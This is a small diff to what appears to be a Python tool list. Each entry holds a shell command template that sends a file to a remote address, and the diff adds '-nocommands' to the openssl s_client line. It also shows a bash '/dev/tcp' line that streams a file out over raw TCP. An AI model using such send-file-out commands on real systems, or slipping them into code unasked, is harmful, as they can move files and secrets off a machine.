@@ -124,7 +124,7 @@ TOOLS = (
         "openssl",
         ("openssl",),
         ("openssl",),
-        'openssl s_client -quiet -no_ign_eof -connect "$A:$TLS" < "$F" > /dev/null',
+        'openssl s_client -quiet -nocommands -no_ign_eof -connect "$A:$TLS" < "$F" > /dev/null',
     ),
     Tool("bash", ("bash",), ("bash", "cat"), 'cat "$F" > "/dev/tcp/$A/$PLAIN"'),
     Tool(
